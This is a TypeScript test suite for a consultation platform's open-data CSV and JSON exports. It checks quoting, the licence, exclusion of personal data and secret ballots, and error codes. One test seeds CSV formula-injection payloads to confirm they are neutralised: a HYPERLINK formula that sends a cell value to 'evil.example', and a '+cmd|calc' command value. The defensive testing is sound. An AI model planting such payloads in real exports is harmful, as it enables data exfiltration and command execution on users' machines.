import { randomUUID } from 'node:crypto';
import { DEMO, startTestPlatform, TestPlatform } from '../support/platform';
import { db, demoGroupId } from './helpers';

/** RFC 4180 parser, for checking what the export writes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  const endField = () => {
    row.push(field);
    field = '';
  };
  const endRow = () => {
    endField();
    rows.push(row);
    row = [];
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') endField();
    else if (c === '\r' && text[i + 1] === '\n') {
      endRow();
      i++;
    } else field += c;
  }
  if (field !== '' || row.length) endRow();
  return rows;
}

const sha = (c: string) => c.repeat(64);

/**
 * Open data exports: public, only adopted work, no personal data, no ballot content of a secret
 * vote, CSV and JSON with the licence, 400 for an unknown format.
 */
describe('open data exports', () => {
  let p: TestPlatform;
  let adopted: string;
  let draft: string;
  let versionId: string;
  const secretMarker = 'CONTENU-SECRET-DU-BULLETIN';
  const trickyTitle = 'Titre avec "guillemets", virgule; point-virgule\net saut de ligne — é';

  beforeAll(async () => {
    p = await startTestPlatform();
    const facilitator = await p.login(DEMO.facilitator);
    const group = await demoGroupId(p, 'AXE-1');
    const ds = db(p);
    const create = async (title: string) =>
      (await p.request('POST', `/api/working-groups/${group}/recommendations`, { token: facilitator, body: { title, horizon: 'quick_win' } })).body.id as string;
    adopted = await create(trickyTitle);
    draft = await create('Encore en brouillon');
    for (const status of ['under_review', 'adopted']) await p.request('PATCH', `/api/recommendations/${adopted}`, { token: facilitator, body: { status } });
    // versions, votes and positions are written by other features: the export only reads the tables
    const users: { id: string; organization_id: string }[] = await ds.query(`SELECT id, organization_id FROM "user" WHERE email = ANY($1)`, [[DEMO.amf, DEMO.regions]]);
    const [v1] = await ds.query(`INSERT INTO recommendation_version (recommendation_id, number, content, content_hash, created_by) VALUES ($1, 1, 'v1', $2, $3) RETURNING id`, [adopted, sha('1'), users[0].id]);
    const [v2] = await ds.query(`INSERT INTO recommendation_version (recommendation_id, number, content, content_hash, created_by) VALUES ($1, 2, 'v2', $2, $3) RETURNING id`, [adopted, sha('2'), users[0].id]);
    versionId = v2.id;
    const [dv] = await ds.query(`INSERT INTO recommendation_version (recommendation_id, number, content, content_hash) VALUES ($1, 1, 'd', $2) RETURNING id`, [draft, sha('d')]);
    const position = (rec: string, version: string, u: { id: string; organization_id: string }, stance: string, current: boolean, hash: string) =>
      ds.query(
        `INSERT INTO position (recommendation_id, version_id, organization_id, submitted_by, stance, motivation, submitted_at, current, hash)
         VALUES ($1, $2, $3, $4, $5, $6, now(), $7, $8)`,
        [rec, version, u.organization_id, u.id, stance, `Motivation ${hash}`, current, sha(hash)],
      );
    await position(adopted, v1.id, users[0], 'unfavorable', false, 'a'); // superseded
    await position(adopted, v2.id, users[0], 'favorable_with_reservations', true, 'b');
    await position(adopted, v2.id, users[1], 'favorable', true, 'c');
    await position(draft, dv.id, users[1], 'unfavorable', true, 'e'); // not adopted work
    const vote = async (title: string, method: string, secret: boolean, status: string, results: unknown) => {
      const [row] = await ds.query(
        `INSERT INTO vote (working_group_id, title, method, secret, status, closed_at, results) VALUES ($1, $2, $3, $4, $5, now(), $6) RETURNING id`,
        [group, title, method, secret, status, JSON.stringify(results)],
      );
      return row.id as string;
    };
    const secretVote = await vote('Vote secret', 'consent', true, 'closed', {
      eligible: 8, cast: 2, consent: 1, objection: 1, outcome: 'rejected', objections: [{ reason: secretMarker }], voters: users.map((u) => u.id),
    });
    await ds.query(`INSERT INTO ballot (id, vote_id, content, college) VALUES ($1, $2, $3, 'local')`, [randomUUID(), secretVote, JSON.stringify({ choice: 'objection', reason: secretMarker })]);
    await ds.query(`INSERT INTO vote_option (vote_id, version_id, position) VALUES ($1, $2, 0)`, [secretVote, v2.id]);
    await vote('Vote public', 'consent', false, 'closed', {
      eligible: 8, cast: 1, consent: 0, objection: 1, outcome: 'rejected', objections: [{ reason: 'Coût trop élevé', voterName: 'Élise Petit', userId: users[0].id }],
    });
    await vote('Vote approbation', 'approval', false, 'closed', {
      eligible: 8, cast: 3, for: 2, against: 1, abstain: 0, outcome: 'adopted', byCollege: { state: { eligible: 2, cast: 1, for: 1, against: 0, abstain: 0, email: 'x@y.fr' }, local: { eligible: 5, cast: 2, for: 1, against: 1, abstain: 0 } },
    });
    await vote('Vote en cours', 'approval', false, 'open', null);
  });
  afterAll(() => p?.close());

  const get = (path: string) => fetch(p.url + path);

  it('exports adopted recommendations with the hash of their latest version, in JSON with the licence', async () => {
    const res = await get('/api/exports/recommendations?format=json');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(res.headers.get('content-disposition')).toContain('recommandations-adoptees.json');
    const body = await res.json();
    expect(body.licence).toEqual({ name: 'Licence Ouverte 2.0', url: 'https://www.etalab.gouv.fr/licence-ouverte-open-licence/' });
    expect(body.items).toEqual([
      expect.objectContaining({ id: adopted, title: trickyTitle, status: 'adopted', horizon: 'quick_win', axisCode: 'AXE-1', versionNumber: 2, contentHash: sha('2') }),
    ]);
    expect(JSON.stringify(body)).not.toContain(draft);
  });

  it('writes RFC 4180 CSV with a header row and proper quoting', async () => {
    const res = await get('/api/exports/recommendations?format=csv');
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const text = await res.text();
    const rows = parseCsv(text);
    expect(rows[0]).toEqual(['id', 'title', 'horizon', 'status', 'axisCode', 'axisTitle', 'workingGroupId', 'workingGroupTitle', 'versionNumber', 'contentHash', 'versionCreatedAt', 'createdAt', 'updatedAt']);
    expect(rows).toHaveLength(2);
    expect(rows[1][0]).toBe(adopted);
    expect(rows[1][1]).toBe(trickyTitle);
    expect(rows[1][9]).toBe(sha('2'));
    expect(text.endsWith('\r\n')).toBe(true);
  });

  it('exports the current positions on adopted recommendations, without user ids', async () => {
    const body = await (await get('/api/exports/positions?format=json')).json();
    expect(body.items.map((i: any) => [i.stance, i.hash]).sort()).toEqual([
      ['favorable', sha('c')],
      ['favorable_with_reservations', sha('b')],
    ]);
    expect(Object.keys(body.items[0]).sort()).toEqual(['hash', 'id', 'motivation', 'organizationName', 'recommendationId', 'recommendationTitle', 'stance', 'submittedAt', 'versionId', 'versionNumber']);
    expect(body.items.every((i: any) => i.versionId === versionId && i.recommendationId === adopted && i.organizationName.length > 0)).toBe(true);
    const csv = parseCsv(await (await get('/api/exports/positions?format=csv')).text());
    expect(csv).toHaveLength(3);
  });

  it('exports closed votes with tallies and outcome only: no ballot content of a secret vote, no names', async () => {
    const body = await (await get('/api/exports/votes')).json(); // JSON by default
    const byTitle = Object.fromEntries(body.items.map((i: any) => [i.title, i]));
    expect(Object.keys(byTitle).sort()).toEqual(['Vote approbation', 'Vote public', 'Vote secret']);
    expect(byTitle['Vote secret']).toMatchObject({ method: 'consent', secret: true, outcome: 'rejected', results: { eligible: 8, cast: 2, consent: 1, objection: 1, outcome: 'rejected' } });
    expect(byTitle['Vote secret'].results.objections).toBeUndefined();
    expect(byTitle['Vote secret'].options).toEqual([expect.objectContaining({ versionId, recommendationId: adopted, contentHash: sha('2') })]);
    expect(byTitle['Vote public'].results.objections).toEqual([{ reason: 'Coût trop élevé' }]);
    expect(byTitle['Vote approbation'].results.byCollege).toEqual({ state: { eligible: 2, cast: 1, for: 1, against: 0, abstain: 0 }, local: { eligible: 5, cast: 2, for: 1, against: 1, abstain: 0 } });
  });

  it('leaks no personal data and no secret ballot in any format', async () => {
    const users: { id: string; email: string; display_name: string }[] = await db(p).query(`SELECT id, email, display_name FROM "user"`);
    for (const dataset of ['recommendations', 'votes', 'positions']) {
      for (const format of ['csv', 'json']) {
        const text = await (await get(`/api/exports/${dataset}?format=${format}`)).text();
        expect(text).not.toContain(secretMarker);
        expect(text).not.toContain('@');
        for (const u of users) {
          expect([dataset, format, text.includes(u.id) || text.includes(u.display_name)]).toEqual([dataset, format, false]);
        }
      }
    }
  });

  it("neutralises formula cells in CSV with a leading ' and leaves JSON as it is (API.md v2)", async () => {
    const ds = db(p);
    const group = await demoGroupId(p, 'AXE-1');
    const facilitator = await p.login(DEMO.facilitator);
    const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")';
    const rec = (await p.request('POST', `/api/working-groups/${group}/recommendations`, { token: facilitator, body: { title: hyperlink, horizon: 'structuring' } })).body.id as string;
    for (const status of ['under_review', 'adopted']) await p.request('PATCH', `/api/recommendations/${rec}`, { token: facilitator, body: { status } });
    const [version] = await ds.query(`INSERT INTO recommendation_version (recommendation_id, number, content, content_hash) VALUES ($1, 1, 'f', $2) RETURNING id`, [rec, sha('9')]);
    const [amf] = await ds.query(`SELECT id, organization_id FROM "user" WHERE email = $1`, [DEMO.amf]);
    await ds.query(
      `INSERT INTO position (recommendation_id, version_id, organization_id, submitted_by, stance, motivation, submitted_at, current, hash) VALUES ($1, $2, $3, $4, 'unfavorable', '@SUM(1+1)', now(), true, $5)`,
      [rec, version.id, amf.organization_id, amf.id, sha('8')],
    );
    await ds.query(`INSERT INTO vote (working_group_id, title, method, status, closed_at, results) VALUES ($1, '-2+3', 'consent', 'closed', now(), $2)`, [
      group,
      JSON.stringify({ eligible: 3, cast: 1, consent: 0, objection: 1, outcome: 'rejected', objections: [{ reason: '+cmd|calc' }] }),
    ]);
    await ds.query(`INSERT INTO vote (working_group_id, title, method, status, closed_at, results) VALUES ($1, $2, 'consent', 'closed', now(), '{}')`, [group, '\tTabulé']);

    const csv = async (dataset: string) => parseCsv(await (await get(`/api/exports/${dataset}?format=csv`)).text());
    const recs = await csv('recommendations');
    expect(recs.find((r) => r[0] === rec)?.[1]).toBe(`'${hyperlink}`);
    const votes = await csv('votes');
    const titles = votes.map((r) => r[votes[0].indexOf('title')]);
    expect(titles).toEqual(expect.arrayContaining(["'-2+3", "'\tTabulé"]));
    const positions = await csv('positions');
    expect(positions.map((r) => r[positions[0].indexOf('motivation')])).toContain("'@SUM(1+1)");
    // no cell of any CSV export starts with a formula character
    for (const dataset of ['recommendations', 'votes', 'positions']) {
      for (const cell of (await csv(dataset)).flat()) expect([dataset, cell, /^[=+\-@\t\r]/.test(cell)]).toEqual([dataset, cell, false]);
    }
    // JSON is data, not a spreadsheet: it keeps the text as written
    const json = await (await get('/api/exports/recommendations?format=json')).json();
    expect(json.items.find((i: any) => i.id === rec).title).toBe(hyperlink);
  });

  it('answers 400 for an unknown format or parameter, 404 for an unknown dataset, and needs no token', async () => {
    const bad = await get('/api/exports/recommendations?format=xml');
    expect(bad.status).toBe(400);
    expect(await bad.json()).toMatchObject({ statusCode: 400, error: 'Bad Request' });
    expect((await get('/api/exports/votes?format=csv&limit=10')).status).toBe(400);
    expect((await get('/api/exports/users?format=csv')).status).toBe(404);
    expect((await get('/api/exports/positions?format=csv')).status).toBe(200);
  });

  it('writes an empty but valid document when there is nothing to publish', async () => {
    await db(p).query(`UPDATE position SET current = false`);
    const json = await (await get('/api/exports/positions?format=json')).json();
    expect(json.items).toEqual([]);
    expect(parseCsv(await (await get('/api/exports/positions?format=csv')).text())).toHaveLength(1);
  });
});
